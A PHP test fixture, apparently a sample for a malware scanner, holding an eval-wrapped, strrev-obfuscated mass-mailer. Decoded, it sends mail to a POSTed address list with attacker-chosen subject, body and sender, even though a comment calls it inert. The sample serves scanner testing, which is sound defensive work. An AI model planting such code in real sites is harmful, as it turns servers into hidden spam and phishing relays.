<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop packed with strrev
// Trait: the unwrapped payload of tests/samples/malicious/mailer/layer-plain.php, decoded statically by the scanner
eval(strrev('
}
;)]\'morf\'[TSOP_$ . " :morF" ,]\'ydob\'[TSOP_$ ,]\'tcejbus\'[TSOP_$ ,)ot$(mirt(liam	
{ )ot$ sa tsil$( hcaerof
;)]\'sliame\'[TSOP_$ ,"n\\"(edolpxe = tsil$'));
